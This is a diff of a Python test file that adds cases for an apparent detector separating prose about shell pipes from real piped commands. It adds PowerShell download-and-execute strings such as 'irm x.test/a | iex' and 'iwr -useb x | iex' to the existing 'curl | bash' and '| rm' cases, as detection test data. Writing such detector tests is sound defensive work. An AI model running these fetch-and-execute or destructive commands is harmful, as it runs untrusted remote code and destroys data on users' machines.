@@ -26,6 +26,10 @@ def test_a_sentence_naming_a_pipe_as_words_is_prose() -> None:
     assert is_prose(
         "The page copies a PowerShell command; the same kit serves a curl | bash line to Macs."
     )
+    # PowerShell's own words for running what a pipe brings, in any case
+    assert is_prose("On Windows the fix button copies an irm | iex line about audio drivers.")
+    assert is_prose("Blue teams should alert on iwr | Invoke-Expression lines from the Run box.")
+    assert is_prose("The second stage arrives through a plain irm | IEX call behind a banner.")
 
 
 def test_a_pipe_that_could_fetch_or_feed_more_than_plain_words_is_a_command() -> None:
@@ -36,5 +40,8 @@ def test_a_pipe_that_could_fetch_or_feed_more_than_plain_words_is_a_command() ->
         "Please continue the setup described on this page | sh evil.sh",  # a file name
         "Please continue the setup described on this page | rm all the files",  # no shell
         "Please continue the setup described on this page | bash $HOME/x",  # a variable
+        "Please continue the setup described on this page; irm x.test/a | iex",  # a host
+        "Please continue the setup described on this page | iex $payload",  # a variable
+        "Please continue the setup described on this page; iwr -useb x | iex",  # an option
     ):
         assert not is_prose(line), line
